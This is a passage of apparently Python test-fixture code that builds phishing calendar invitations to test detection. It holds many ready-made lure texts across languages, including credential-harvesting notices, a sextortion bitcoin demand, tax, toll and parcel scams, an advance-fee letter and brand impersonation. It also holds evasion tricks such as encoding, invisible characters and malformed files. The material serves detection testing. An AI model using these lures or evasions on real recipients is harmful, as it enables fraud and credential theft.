            summary=["Reminder: password for {local} expires TODAY", "Your device", "{domain}: sign-in from two places", "{local}, keep or change your password?"],
            text=["Password for {rcpt} expires at the time of this event.\n\nUse the button to KEEP the same password.\n\n[Keep same password](https://keep-{token}.r2.dev/pw/index.html#%B64%)\n\n{domain} support © {year}",
                  "Look at the organizer. Yes, that is you - I put this in your calendar from your own account.\n\nSome months ago you visited a page for adults and my little program came along. I have the camera, the contacts, the chats. There is a split video: left side you, right side what you enjoyed.\n\nYou transfer 1350 USD in bitcoin to bc1q{token}{token} and I erase everything. 50 hours from the moment you read this. No police, no replies, the address is not mine as you see. Can't buy coins? Ask {phone}, they don't know what it's about.\n\nChange your passwords after. Nothing personal.",
                  "IT notice. Mailbox {rcpt} was signed in from two places. Validate your ID or it is locked in 30 mins >> https://owa-validate{num}.test/{domain}/"]),
    heldout(20, "dois-organizadores", lang="pt", by="java-site php-site", sender="company", attacks=[20, 49], do=three_organizers,
            summary=["Receita Federal: pendência no CPF", "Multa de trânsito {num} – defesa até hoje", "Entrega retida: taxa {small}"],
            text=["Informamos que o seu CPF apresenta irregularidade e será SUSPENSO na data deste compromisso, com bloqueio de conta bancária, PIX e passaporte.\n\nRegularize agora pagando o DARF de {amount}:\nhttps://regulariza-cpf.{token}.netlify.app/darf\n\nDúvidas: {phone}",
                  "Consta auto de infração nº {num} em seu nome. Pague com 40% de desconto: https://detran-guia{num}.test/pix/{code} (o link expira com o evento)",
                  "Olá! Seu pacote chegou ao centro de distribuição, mas falta a taxa de despacho postal ({small}). Sem o pagamento ele volta ao remetente.\n📦 https://despacho.{token}.web.app/r/{code}{num}"]),
    heldout(20, "parametro-email", lang="it", by="apple-mail icloud", sender="freemail", attacks=[20, 19, 34],
            do=organizer_line("ORGANIZER;CN=Poste Clienti;EMAIL=assistenza@posteclienti.example:mailto:{orgaddr}", "ORGANIZER;EMAIL=avvisi@agenziaentrate.gov.it;CN=\"Agenzia Entrate\":mailto:{orgaddr}", "ORGANIZER;CN=Apple;EMAIL=noreply@apple.com:mailto:{token}@imap-sync.test"),
            who=["Poste Clienti", "Agenzia Entrate", "Assistenza ID"],
            summary=["Il suo conto è stato limitato", "Rimborso 730: {amount}", "Accesso da un nuovo dispositivo"],
            text=["Gentile cliente,\n\nabbiamo rilevato un'anomalia sul suo conto e per sicurezza l'abbiamo limitato. Per riattivare tutte le funzioni confermi il numero di cellulare qui: https://conferma-app.{token}.pages.dev/it/{code}\n\nUn operatore la chiamerà dal numero {phone}.\n\nCordiali saluti",
                  "Dalla dichiarazione risulta a suo credito l'importo di {amount}. Compili il modulo https://rimborsi-730.{token}.web.app entro la data indicata (IBAN e carta).",
                  "Il tuo ID è stato usato su un iPhone vicino a Odessa. Non sei stato tu? Chiama subito {phone} – altrimenti tutte le foto saranno cancellate."]),
    # 21: others have accepted
    heldout(21, "enrolment-full-house", by="m365", sender="tenant", attacks=[21, 41, 34], do=[accepted_by(5, 9), tailored], who=["Benefits Enrollment", "Total Rewards Team"],
            summary=["Open enrollment closes today - {company}", "401(k) match – acknowledge new terms", "Mandatory: health plan re-election {year}/27", "Plan amendment: last signatures"],
            text=["Most of your department has completed its elections ✔. You are one of the last on the list.\n\nRe-elect or be moved to the basic plan:\n[Benefits center](https://benefits-elect.{token}.azurewebsites.net/go?id=%B64%)\n\nHave your SSN and the direct deposit account at hand.",
                  "{first}, the match moves from 4 to 6%. To receive it you must accept the new terms. Everybody invited here has. \n\nhttps://plan-terms-{num}.example/ack/{local}\n\nWindow closes at start of meeting\n-- Total Rewards, {company}"]),
    heldout(21, "vy-vedushchiy", lang="ru", by="google icloud", sender="freemail", attacks=[21, 8, 40], do=victim_in_chair,
            summary=["Ваш BTC-кошелёк: вывод средств сегодня", "Перевод {amount} ожидает подтверждения", "✅ Заявка одобрена, осталось получить"],
            text=["Здравствуйте!\n\nНа ваш облачный майнинг-аккаунт начислено 1.3471 BTC. Аккаунт не использовался 364 дня, завтра баланс обнуляется.\n\nЗабрать: https://docs.google.com/presentation/d/e/2PACX-{token}{token}/pub\n\nВы указаны организатором встречи, участие уже подтверждено.",
                  "Уважаемый клиент, выплата в размере {amount} по компенсационной программе одобрена. Менеджер ждёт вас онлайн, войдите по персональной ссылке https://vyplata-{num}.test/lk/{code} и оплатите комиссию за конвертацию.",
                  "Добрый день. Вы вчера оставили заявку на возврат НДС с покупок. Юрист назначен. Не откладывайте: {phone}, доб. {n2}. Паспорт и карту держите под рукой."]),
    heldout(21, "consejo-extraordinario", lang="es", by="m365 outlook-imap", sender="company", attacks=[21, 11, 34], do=[accepted_by(3, 5, ("Consejera Delegada", "Dir. Financiero", "Secretario del Consejo", "Auditoría")), tailored],
            summary=["Consejo extraordinario - documentación previa", "Operación Cierzo: acceso al data room", "Convocatoria reservada {date}"],
            text=["Estimado/a {first}:\n\nPor indicación de la presidencia se convoca sesión extraordinaria. El orden del día y el informe de valoración se encuentran en el data room, cuyo acceso es nominal e intransferible:\n\n[Entrar al data room](https://vdr-cierzo.{token}.vercel.app/acceso?u=%B64%)\n\nLe rogamos confirme lectura antes de la sesión; el resto de convocados ya lo ha hecho.\n\nReciba un cordial saludo,\n{org}\nSecretaría General – {orgcompany}\n\nEste mensaje se dirige exclusivamente a su destinatario y puede contener información privilegiada o confidencial. Si no es Vd. el destinatario indicado, queda notificado de que la utilización, divulgación y/o copia sin autorización está prohibida en virtud de la legislación vigente.",
                  "Buenas, os dejo las actas y el borrador de contrato para la operación. Solo desde el correo de empresa: https://actas-{num}.example/doc?e={rcpt}\nMañana lo firmamos."]),
    heldout(21, "butie-lingqu", lang="zh", by="m365 kit-python", sender="company", attacks=[21, 36], do=[accepted_by(4, 8), code_of("https://bt-{token}.pages.dev/q?c={code}", "notice")], who=["财务部", "人力资源部", "综合管理办公室"],
            summary=["关于{year}年度个人劳动补贴申领的通知", "【财务部】薪资补贴登记，今日截止", "请各位同事尽快办理：综合补贴"],
            text=["各位同事：\n\n根据财政部、人力资源和社会保障部最新要求，{year}年第三季度个人劳动补贴现已开始发放，请用手机扫描下方二维码登记领取，逾期视为自动放弃。\n\n登记时请准备好身份证及工资卡（需短信验证）。\n\n财务部",
                  "请收到通知的员工在会议开始前用微信扫码完成认证，领取补贴 {amount}。已参加的同事见参会名单。如有疑问请致电 {phone}。"]),
    # 22: made with something
    heldout(22, "builder-esign", by="kit-python kit-node", sender="junk", attacks=[22, 34, 12], who=["E-Sign Desk", "Closing Coordinator", "AP Documents"],
            do=[home("closing-desk-{num}.test", "title-escrowdocs.example", "remitfast.invalid"), product("-//InviteKit//v2//EN", "-//App//EN", "-//Bulk Event Maker 1.3//NONSGML//EN", "-//MySender//{orgdomain}//EN"), tailored],
            summary=["Remittance advice {num} - ACH settled", "Escrow instructions ready for signature", "EFT#{num} payment copy", "Wire confirmation {amount}"],
            text=["Attached to this appointment is the remittance copy for invoice {num}, value {amount}.\n\nDownload: https://remit.{token}.r2.dev/copy/{code}{num}.html?l=%B64%\n\nKindly confirm receipt.\nAccounts Payable",
                  "Hello {first}, the buyer's agent has sent over closing instructions incl. changed wire details. Sign here: [SIGN NOW](https://escrow-sign-{token}.weebly.com/)\nFunds must leave before closing, see time above. Do not call the old number, use {phone2}.",
                  "ACH settled today {today}\nBeneficiary: {company}\nAmount: {amount}\nView stub 👉 https://bit.ly/{code}{num}"]),
    heldout(22, "prodid-au-hasard", lang="fr", by="kit-node kit-php", sender="vps", attacks=[22, 34, 39], who=["Ameli", "Antai Amendes", "Mon compte formation"], do=[home("amendes-reg{num}.test", "carte-v-3.example"), product("-//{token}//EN", "{hex}", "-//x{num}y//{code}//FR", "-//{code}{num}//EN")],
            summary=["Votre nouvelle carte Vitale est disponible", "Avis de contravention impayé ({small})", "CPF : vos droits expirent le {date}"],
            text=["Assuré(e) social(e),\n\nla carte Vitale V3 est disponible. Ne plus attendre : sans renouvellement vos soins ne seront plus pris en charge.\n\nCommander ma carte ({small} de frais d'envoi)\nhttps://vitale3.{token}.pages.dev/commande\n\nL'Assurance Maladie",
                  "Bonjour, une infraction a été constatée avec votre véhicule. Montant minoré {small} jusqu'à la date de l'évènement, ensuite 375 €. Payer : https://antai-tele{num}.test/?av={code}{num}",
                  "Il vous reste 1 480,00 € sur votre compte formation. Un conseiller est à votre écoute au {phone} (non surtaxé) pour ne pas perdre vos droits. Munissez-vous de votre numéro de sécu et identité numérique."]),
    heldout(22, "says-google", by="kit-php kit-node python-site", sender="vps", attacks=[22, 9, 34], who=["Google Workspace", "Google Drive", "Google Payments"], do=[home("srv-wm{n2}.invalid", "dailytips4u.test"), poses_as_google, tailored],
            summary=["Storage 100% full – messages are bouncing", "Shared with you: FY{year} Vendor list.xlsx", "We couldn't charge your card", "{domain} is out of storage"],
            text=["Your Google Workspace storage is full\n\nYou can't send or receive mail. Get 100 GB for {small}, special rate for {rcpt}, valid until this event ends.\n\n[Add storage](https://storage.googleapis.com/{token}/addon.html#%B64%)\n\nGoogle LLC 1600 Amphitheatre Parkway",
                  "{colleague} shared an item\n\nFY{year} Vendor list.xlsx\n\nOpen → https://sites.google.com/view/{token}/drive\n\nIf you don't want to receive files from this person, block the sender from Drive.",
                  "Payment of {amount} for {domain} declined. Your users lose access at the time shown. Fix payment: https://pay-gws-{num}.example/c/{code}?hd={domain}"]),
    heldout(22, "angeblich-exchange", lang="de", by="kit-php php-site", sender="company", attacks=[22, 34, 38], do=[poses_as_exchange, tailored],
            summary=["Neue Sprachnachricht (0:38)", "Teams-Besprechung: Sie wurden erwähnt", "Dokument freigegeben: Rechnungskorrektur {num}"],
            text=["Sie haben eine neue Sprachnachricht\n\nVon: Anrufer unterdrückt\nDauer: 38 Sek.\nPostfach: {rcpt}\n\n[Nachricht anhören](https://voip-audio.{token}.azurewebsites.net/play?x=%B64%)\n\nDie Nachricht wird nach dem Termin gelöscht.\n\nMicrosoft 365 Telefonie",
                  "________________________________________________________________________________\nMicrosoft Teams\nJetzt an der Besprechung teilnehmen <https://teams-beitritt-{token}.web.app/l/{hex}>\nBesprechungs-ID: 391 204 118 77\nKennung: {code}\n________________________________\nFür die Teilnahme ist das Update des Desktop-Clients erforderlich (Setup wird automatisch geladen).",
                  "{org} ({orgcompany}) hat eine Datei für Sie freigegeben: Rechnungskorrektur_{num}.pdf. Öffnen: https://freigabe-{num}.test/onedrive/{local} – bitte mit dem Firmenkonto anmelden."]),
    # 44: for the program that shows it
    heldout(44, "zimbra-protocolo", lang="pt", by="zimbra thunderbird roundcube", sender="company", attacks=[44, 35, 11], do=ontoggle,
            summary=["Visita da delegação – programa preliminar", "Cerimônia: credenciamento de convidados", "Protocolo – indicação de representante", "Cerimônia de passagem de cargo"],
            text=["Senhor(a) {last},\n\nEncaminho o programa preliminar da visita, para apreciação e indicação de representante. A lista de credenciamento está em https://protocolo-{num}.test/lista?n={code} e deve ser preenchida com a senha do correio.\n\nRespeitosamente,\n{org}",
                  "Prezados, segue convite para a cerimônia. Confirmação e dados do veículo: https://cerimonial.{token}.pages.dev/rsvp"]),
    heldout(44, "names-with-tags", by="roundcube sogo thunderbird", sender="junk", attacks=[44, 19, 34], do=[home("supportdesk-ops.test", "qa-bookings{n2}.example"), markup_in_names],
            summary=["Mailbox migration window", "Ticket #{num} follow-up", "Security patch for your webmail", "Webmail upgrade: your slot"],
            text=["Webmail moves to the new cluster on {date}. Log in once to the new address and your folders come along: https://webmail2-{token}.netlify.app/?d={domain}",
                  "Hi, your ticket #{num} (cannot send) has been answered. Read the answer at https://tickets-{num}.test/{code} , same password as mail. It closes itself after the event.",
                  "A patch is being rolled out. Opening this invitation in the browser is sufficient. If the calendar shows an empty box, reload, or open https://patch.{token}.workers.dev/"]),
    heldout(44, "agenda-on-a-share", by="outlook-imap m365 kit-node", sender="company", attacks=[44, 37], do=foreign_paths,
            summary=["Steering committee – papers", "Minutes for approval", "Shared calendar: Projects {year}", "Draft MoU, last call for comments"],
            text=["Papers for the committee are linked to the appointment, the file share opens by itself in Outlook. If Windows asks for credentials enter your network user and password. Web copy: https://papers-{token}.github.io/m/{num}",
                  "Dear {first},\n\nplease approve the minutes before we meet (attachment of the event). Trouble opening it? https://minutes.{token}.vercel.app/{code}\n\n{org}\n{orgcompany}",
                  "{org} has invited you to view his or her Calendar \"Projects {year}\". Click Open this Calendar, or https://share-cal-{num}.example/open?c={hex}"]),
    # 45: broken, and shown all the same
    heldout(45, "no-uid-antivirus", by="kit-python kit-node kit-php", sender="freemail", attacks=[45, 39, 28], place="soon", do=[turn(without("UID", "DTSTAMP"), without("DTSTAMP", "SEQUENCE", "STATUS"), without("UID"), without("UID", "DTEND", "DTSTAMP")), only_recipient],
            who=["Norton Subscriptions", "McAfee Orders", "Geek Squad"],
            summary=["Plan renewal {order}", "Your 3yr protection is active", "INVOICE-{num}", "Thank u for your order 🛒"],
            text=["Greetings,\n\nNorton 360 Platinum has renewed itself for another term.\nUnits 5 | Tenure 2 yrs | Debit {amount}\n\nWe will deduct in a few hours. Should you want to discontinue, ring our cancelation bureau: {phone}\n\nHave a lovely day,\nMarcus Dell\nSr. Accounts",
                  "Your account ending x{n2}14 was billed with {amount} for McAfee LiveSafe. Not you? CALL {phone} NOW (toll free) — refunds only by phone and only on the same day.",
                  "Dear Costumer, Geek Squad Total Tech auto pay {amount} is succesfull. For any quiries about the charge pls. talk to our executive +1 (808) 5 5 5 - 0 1 3 3. Invoice no. {order}"]),
    heldout(45, "saltos-de-linea", lang="es", by="kit-php kit-python", sender="vps", attacks=[45, 28], place="soon", who=["Selección RRHH", "Empleo desde casa"], do=[home("trabaja-hoy.test", "portal-vacantes{n2}.invalid"), S.set_(cal_cte="base64"),
            turn(swap((b"\r\n", b"\n")), swap((b"\r\n", b"\r")), swap((b"END:VEVENT\r\nEND:VCALENDAR\r\n", b"")), swap((b"\r\n", b"\n"), (b"END:VCALENDAR\n", b"")))],
            summary=["Entrevista: trabajo remoto {amount}/día", "Has sido preseleccionad@ 🎉", "Oferta laboral: 2 horas al día, pago diario", "Confirma tu vacante"],
            text=["Hola {first}, soy Lucía, de Recursos Humanos. Vimos tu currículum en una plataforma y tenemos un puesto a media jornada: dar «me gusta» a vídeos y reseñar hoteles. Pagamos entre 90 y 300 € al día, en USDT o en tu banco. Requisitos: mayor de 23 años y móvil.\n\nEscríbeme por WhatsApp para empezar hoy: https://wa.me/12025550144\n\nPlazas limitadas",
                  "Su candidatura ha sido aceptada. Para formalizar el alta se abona una fianza de {small} reembolsable, https://alta-empleado-{num}.test/pago. Consultas {phone}."]),
    heldout(45, "php-complains", by="kit-php php-site", sender="vps", attacks=[45, 34], who=["USPS Delivery", "Parcel Hub", "Customs Clearance Unit"], do=[home("hub-redelivery.test", "parcel-{num}.invalid", "shop.gardenhoses.example"), turn(
            swap((b"BEGIN:VCALENDAR", b"<br />\r\n<b>Notice</b>:  Undefined variable: tz in <b>/var/www/html/wp-includes/cal.php</b> on line <b>31</b><br />\r\nBEGIN:VCALENDAR")),
            swap((b"BEGIN:VCALENDAR\r\n", b"\r\n\r\n  BEGIN:VCALENDAR\r\n"), (b"BEGIN:VEVENT", b"BEGIN:VEVENT\r\nBEGIN:VEVENT")),
            swap((b"BEGIN:VCALENDAR", b"string(1) \"1\"\r\nX-Debug sent ok\r\nBEGIN:VCALENDAR"), (b"END:VCALENDAR", b"END:VCALENDAR\r\n<?php } ?>")),
            swap((b"VERSION:2.0\r\n", b""), (b"SUMMARY:", b"SUMMARY "), (b"DESCRIPTION:", b"SUMMARY:")))],
            summary=["Your parcel 9400{num} is waiting", "Redelivery appointment {date}", "Customs fee due: {small}", "Address incomplete - package held"],
            text=["The item could not be delivered as the house number is missing. Update the address and pay the handling of $1.99 within 12 h:\n\nhttps://usps-trk.{token}.web.app/?t=9400{num}\n\n(Reply Y then reopen the calendar if the link is not clickable.)",
                  "Redelivery window booked. To keep the slot settle {small}: https://parcel-slot-{num}.test/pay/{code}\nUnpaid items go to auction.",
                  "Package {order} / customs stop. Duty {small}. [Pay duty](https://duty-desk.{token}.pages.dev/) or phone {phone}"]),
    heldout(45, "umbruch-kaputt", lang="de", by="kit-python kit-php", sender="junk", attacks=[45, 34], who=["Inkasso Nord-Süd", "Beitragsservice"], do=[home("service-beitrag{n2}.test", "forderung-online.example"), S.set_(cal_cte="base64"), turn(
            cut_after(b"DESCRIPTION:", 40, False), remake(folds_lost), swap((b"\r\n ", b"\r\n\t"), (b"\\n\\n", b"\\n\r\n\t \t\\n")), remake(lambda m, d: unfolded(m, d).replace(b"\\n", b"\r\n")))],
            summary=["Letzte Mahnung – Aktenzeichen {num}", "Rückstand {amount}", "Vollstreckung am {date}"],
            text=["Sehr geehrte Damen und Herren, trotz Mahnung ist die Forderung über {amount} offen.\n\nWir geben Ihnen letztmalig Gelegenheit zur Zahlung: \nhttps://zahlung.example/{code}{num}\n\nAndernfalls erscheint der Gerichtsvollzieher zum oben genannten Termin.\n\nInkasso Nord-Süd, Tel. {phone}",
                  "Ihr Rundfunkbeitrag für das Quartal wurde nicht abgebucht. \nBitte hinterlegen Sie eine neue Bankverbindung unter \nhttps://beitrag.test/{code}/sepa\n bis zum Termin, um Säumniszuschläge ({small}) zu vermeiden."]),
    # 46: padding
    heldout(46, "x-ballast", by="m365 kit-python", sender="tenant", attacks=[46, 41, 34], who=["Compensation Planning", "Workday Notices", "SharePoint Online"], do=[turn(ballast("X-%s-TRACE", 12, 20, (32, 48, 64)), ballast("X-%s", 14, 30, (32, 40)), ballast("X-MS-%s-SIG", 11, 16, (64, 128)), ballast("X-WR-%s", 20, 40, (33, 36))), tailored],
            summary=["Off-cycle adjustment for {name}", "Compensation statement {q}", "Bonus eligibility – confirm by EOD"],
            text=["Reference document: Adj_{local}_{year}\nClassification: restricted\n\n{first}, an adjustment to your pay has been approved by the committee. View it at https://comp-view.{token}.workers.dev/s/%HEX%\n\nIt becomes void without e-acknowledgement.",
                  "You are eligible 🎯\n\n[See statement](https://{token}.sharepoint-docs.test/:b:/g/{hex}?e=%B64%)\n\nSharePoint Online | {company}"]),
    heldout(46, "tag-letters", by="google icloud", sender="freemail", place="soon", attacks=[46, 39, 8, 28], do=turn(sprinkle(TAGS, 2), tag_message, sprinkle(TAGS, 3, False), tag_message), who=["Coinbase Wallet", "Venmo Receipts", "Robinhood Desk", "Kraken Alerts"],
            summary=["Withdrawal {btc} BTC pending", "You sent {amount} to Tyrell Simmons", "Security hold on your wallet", "Outgoing transfer {order}"],
            text=["A withdrawal of {btc} BTC to an external address was requested from Lagos. The transaction is broadcast when this reminder goes off. To halt it speak with the wallet desk now: {phone}. Never share the seed phrase with anybody except our verification officer.",
                  "You sent {amount} to Tyrell Simmons 💸\nNote: tv + mount\n\nWasn't you? {phone}\n\nVenmo is a service of our banking partners.",
                  "For your safety we have frozen the assets. Our agents migrate your balance to a secure vault together with you on the line. Direct number {phone}, language English / Spanish, 24x7."]),
    heldout(46, "invisibile", lang="it", by="google outlookcom kit-python", sender="freemail", attacks=[46, 34], do=turn(sprinkle(MATHS, 2), sprinkle(MATHS + ["\u200b"], 3), sprinkle(TAGS[:20], 2)), who=["INPS Avvisi", "SPID Rinnovo", "Corriere Nazionale"],
            summary=["Pagamento INPS in attesa: {amount}", "Il tuo SPID sta per scadere", "Pacco fermo in deposito"],
            text=["Ciao {first}, risulta un pagamento a tuo favore di {amount} mai riscosso. Serve solo una foto del documento fronte e retro più un selfie con la carta in mano:\n\nhttps://inps-bonus.{token}.netlify.app/carica/{code}\n\nEntro stasera",
                  "La tua identità digitale scade oggi. Rinnovala subito da casa https://spid-rinnova{num}.test/id senza andare allo sportello. Se hai problemi scrivi o chiama {phone}.",
                  "Il corriere è passato ma non ha trovato nessuno. Nuova consegna a {small}: https://bit.ly/{code}{n2}"]),
    # 47: other calendars than ours
    heldout(47, "julian-inheritance", by="kit-php kit-python", sender="freemail", attacks=[47, 40], do=scale("JULIAN", "COPTIC", "PERSIAN", "JULIAN"), who=["Mrs. Helga Brandwijk", "Barr. Anselm Quaye", "K. Owusu, Audit"], place="far",
            summary=["From the sick bed of Mrs. Brandwijk", "RE: FUND RELEASE ORDER", "dormant account / {last}", ""],
            text=["Dear Beloved,\n\nI am Mrs. Helga Brandwijk, widow, 67 years, a convert by the grace of God, and I write this to you with tears from my hospital bed. My late husband was a cocoa and gold merchant for two decades in Abidjan before his demise. We have no child. When he lived he deposited the sum of US${big} with a prime bank.\n\nMy doctor has told me that I will not last the next two months because of cancer of the oesophagus. Having known my condition I decided to hand this fund over to a God fearing person who will use it the way I am going to instruct: orphanages, widows, and the house of worship. I took this decision because I do not want my husband's relatives, who are not believers, to squander what we sweated for. Fifty percent is for you and your effort.\n\nDo not be surprised to find this in your calendar. A nurse helps me with the computer, and letters do not reach people.\n\nAs soon as I receive your reply at helga.brandwijk@mission-mail.example I shall give you the contact of the bank and issue a letter of authority that will prove you the present beneficiary. My happiness is that I lived a worthy life. Any delay in your reply will give me room in sourcing another person. Assure me that you will act accordingly as I stated herein.\n\nRemain blessed,\nYour sister Helga",
                  "ATTENTION: {rcpt}\n\nYour long overdue inheritance/contract payment of ${big} has been approved via ATM VISA card. Only the stamp duty of $185 separates you from it. Call Barrister Anselm Quaye on +1 (929) 555-0118 or write barr.quaye@chambers-lome.example with full names, address and occupation. Treat as very urgent.",
                  "i am an auditor at the branch, there is a dormant account with ${big}, same surname as yours ({last}). if you are interested in 40/60 reply my private box only: auditdesk.k@private-post.example . no upfront fees, no risk. details after your call +44 7700 900417"]),
    heldout(47, "nongli-youxiang", lang="zh", by="kit-python kit-node", sender="vps", attacks=[47, 34], do=[home("mail-admin{n2}.test", "qiye-sys.invalid"), scale("CHINESE", "CHINESE", "LUNAR", "chinese"), tailored], who=["系统管理员", "邮件中心", "IT服务台"],
            summary=["【系统通知】您的邮箱即将停用", "密码到期提醒：{rcpt}", "您有 {n2} 封来信被拦截", "企业邮箱升级会议"],
            text=["尊敬的用户 {rcpt}：\n\n因服务器升级，所有未备案的账号将于本日程所示时间停止收发邮件。请点击下方链接完成备案：\n\nhttps://mailsys-{token}.pages.dev/cn/?user=%B64%\n\n请使用当前邮箱密码登录，升级完成后恢复正常。\n\n信息中心",
                  "您的邮箱账户密码今天到期。保留原密码请访问 https://beian-{num}.example/keep/{code} ，否则账户将被锁定。服务热线 {phone}",
                  "有 {n2} 封来信被系统拦截，查看并放行：https://mx.{token}.workers.dev/q/{hex}"]),
    heldout(47, "streaming-hebrew", by="kit-node kit-php kit-python", sender="junk", attacks=[47, 34], do=[home("member-billing{n2}.example", "tv-account-{token}.test"), scale("HEBREW", "ISLAMIC-CIVIL", "GREGORIAN2", "")], who=["Netflix", "Disney Plus Billing", "Spotify Premium"],
            summary=["Payment declined - membership on hold", "Last chance: 90 days free", "We're having some trouble with your payment", "Update billing to keep watching"],
            text=["We tried to renew your membership on {date} but the bank said no.\n\n[UPDATE PAYMENT](https://netflx-{token}.vercel.app/YourAccountPayment)\n\nWe're here to help if you need it. Visit the Help Center for more info.\n\n- Your friends at Netflix",
                  "Extended for free for 90 days as part of the loyalty programme, {first} 🎬 – after sign-up insert your card to validate your account (nothing is charged): https://tinyurl.com/{token}",
                  "Hey! Your Premium turns into the free plan today. Playlists offline will be gone. Retry the card: https://spoti-renew-{num}.test/{code}"]),
    # 48: written so that one has to decode it
    heldout(48, "etc-riyou", lang="ja", by="kit-python kit-php", sender="vps", attacks=[48, 34], do=[home("etc-meisai{n2}.test", "card-riyou.invalid"), turn(fold_octets(61), fold_octets(44), cut_after(b"https:/", 5), fold_octets(73))], who=["ETC利用照会サービス", "国税庁 e-Tax", "JCBカード"],
            summary=["ETCサービスは無効になりました", "未払い税金のお知らせ（差押最終通知）", "【緊急】カード年会費のお支払い方法に問題があります"],
            text=["ETCサービスをご利用のお客様：\n\nETCサービスは無効になりました。引き続きサービスをご利用いただきたい場合は、下記リンクより詳細をご確認ください。\n\nhttps://etc-login.{token}.pages.dev/x/{code}\n\n※このメールは送信専用です。\n（登録確認有効期限）{date}",
                  "e-Taxをご利用いただきありがとうございます。あなたの所得税（または延滞金）について、これまで自主的に納付されるよう催促してきましたが、まだ納付されておりません。納税確認番号：****{num}　滞納金合計：{amount}　最終期限：本日\nhttps://nouzei-{num}.example/pay?id={hex}",
                  "年会費 {amount} の引き落としができませんでした。お手数ですが {phone} までお電話いただくか、https://jcb-m.{token}.web.app/ にてカード情報をご更新ください。"]),
    heldout(48, "kodirovka", lang="ru", by="kit-php kit-node", sender="vps", attacks=[48, 34, 39], do=[home("lk-uslugi{n2}.test", "shtraf-info.invalid"), turn(recode("cp1251", "UTF-8"), recode("utf-8", "windows-1251"), recode("koi8-r", "us-ascii"), recode("utf-16", "UTF-8"))], who=["Портал госуслуг", "ФНС России", "Служба безопасности банка"],
            summary=["Вход в ваш аккаунт с нового устройства", "Требование об уплате № {num}", "Оформлен кредит на {amount}", "Подозрительный вход: срочно подтвердите"],
            text=["Зафиксирован вход в личный кабинет: г. Херсон, Chrome 126. Если это были не вы, немедленно позвоните специалисту {phone} и назовите код обращения {pin}. До звонка не заходите на портал!",
                  "За вами числится задолженность по налогу на имущество {amount}. Оплатите до начала события, чтобы избежать ареста счетов: https://nalog-oplata{num}.test/{code}",
                  "На ваше имя одобрена заявка на кредит. Отменить можно только через оператора, {phone}, или в форме https://otmena.{token}.web.app/ (понадобится код из СМС)"]),
    heldout(48, "double-wrapped", by="kit-python kit-node kit-php", sender="junk", attacks=[48, 34], do=[home("page-evidence.test", "dmca-{num}.example", "biz-appeals.example"), turn(twice, recode("utf-16", "utf-16"), recode("utf-7", "UTF-7"), recode("utf-8-sig", "iso-8859-1")), tailored], who=["Meta Rights Team", "Copyright Agent", "Page Integrity"],
            summary=["Your page violates our policies – appeal", "Copyright strike #{num}", "⚠️ Page removal scheduled {date}", "Final notice: account to be disabled"],
            text=["We have received reports that your page has published content infringing trademarks. Unless you appeal, it is unpublished permanently on {date}.\n\n[Request a review](https://appeal-{token}.netlify.app/case/{num}?m=%B64%)\n\nYou need page name, phone and password to confirm that you are its owner.\nMeta Platforms, Inc. — “Business Support”",
                  "Hello, I'm the attorney of the photographer whose picture is used on your website {domain}. Proof of the infringement incl. screenshots: https://evidence.{token}.github.io/{hex}.zip. We hope to resolve it without a court. Reply within 24h – or call {phone2}.",
                  "Your “{company}” account will be disabled. Start a chat with an agent https://pg-integrity{num}.test/chat before the time slot you were given"]),
    heldout(48, "odd-spelling", by="kit-node kit-php python-site", sender="company", attacks=[48, 34], do=[tailored, turn(
            remake(lambda m, d: d.replace(b"SUMMARY:", b"summary:").replace(b"DESCRIPTION:", b"Description:").replace(b"DTSTART", b"dtStart").replace(b"BEGIN:VEVENT", b"begin:vevent").replace(b"END:VEVENT", b"End:vEvent")),
            swap((b"https://", b"https\\://"), (b"LOCATION:", b"item1.LOCATION:"), (b"DESCRIPTION:", b"item1.DESCRIPTION:")),
            swap((b"SUMMARY:", b'SUMMARY;X-A="a:b;c";LANGUAGE="en:us":'), (b"DESCRIPTION:", b'DESCRIPTION;ALTREP="data:text/plain,see:below";X-N="1,2":')),
            swap((b"ORGANIZER;CN=", b'organizer;x-role="a;b:c";cn='), (b"DESCRIPTION:", b"DESCRIPTION;ENCODING=QUOTED-PRINTABLE;CHARSET=UTF-8:=20")))],
            summary=["Domain {domain} expires in 24 hours", "Trademark dispute: {company} .cn registration", "DNS suspension notice", "SSL + hosting renewal for {domain}"],
            text=["Domain Notification: {domain} - SEO search engine listing & hosting package\n\nAmount: {amount}   Term: 1 year\n\nSecure online payment: https://domain-renewals.{token}.pages.dev/o/{code}{num}?m=%B64%\n\nFailure to complete renewal by {date} may result in cancellation of the search optimization of your name, making it difficult for your customers to locate you.",
                  "Dear CEO,\n(please forward this to your CEO, as this is urgent)\nWe are a network service company, the registration center in Shanghai. We received an application from Huatong Ltd to register \"{company}\" as keyword and CN domains. Is this company your distributor? If not, protect your names within 7 workdays: fees & form https://cn-registry{num}.test/form/{code}\nBest regards\nRobert Liu",
                  "DNS of {domain} gets suspended since the contact could not be validated. Validate: https://whois-check-{num}.example/v?d={domain}&k={hex}"]),
    # 49: the parts say different things
    heldout(49, "calm-in-front", by="kit-python outlook-imap java-site", sender="company", attacks=[49, 34], do=[tailored, page(["Hi {first},\n\nlet's catch up next week, see the invite.\n\n{org}", "Please find the invitation attached.\n\nKind regards\n{org}\n{orgcompany}", "As discussed on the phone. Talk soon!"]),
            two_faces(["Catch-up", "Coffee?", "Quick sync"], ["Nothing special, just to catch up.", "My treat.", "10 minutes."])],
            subject=["Catch-up next week", "Meeting invitation", "[[Quick call|As discussed]]"], summary=["Secure file: {orgcompany} statement {num}", "Proposal {year} – log in to view", "Payment schedule (encrypted)"],
            text=["{org} uses encrypted mail. The message for {rcpt} can be read for 7 days.\n\n[Read message](https://securemail.{token}.azurewebsites.net/formpostdir/safeformpost.aspx?id=%B64%)\n\nOr request a one-time passcode. Powered by Message Encryption.",
                  "Dear {first},\nour proposal is on the company OneDrive, https://{token}.onedrive-files.test/:x:/p/{local}/{hex}. You will be asked for your mailbox password as the link is protected.\n{org}"]),
    heldout(49, "le-corps-parle-d-autre-chose", lang="fr", by="m365 outlook-imap open-xchange", sender="company", attacks=[49, 13], do=[page(["Bonjour {first},\n\nRéunion de suivi, merci de confirmer votre présence.\n\nCordialement,\n{org}", "Bonjour, comme convenu voici le créneau pour le déjeuner d'équipe. À bientôt !"]), tailored],
            summary=["Suivi mensuel", "Déjeuner d'équipe", "Point projet"],
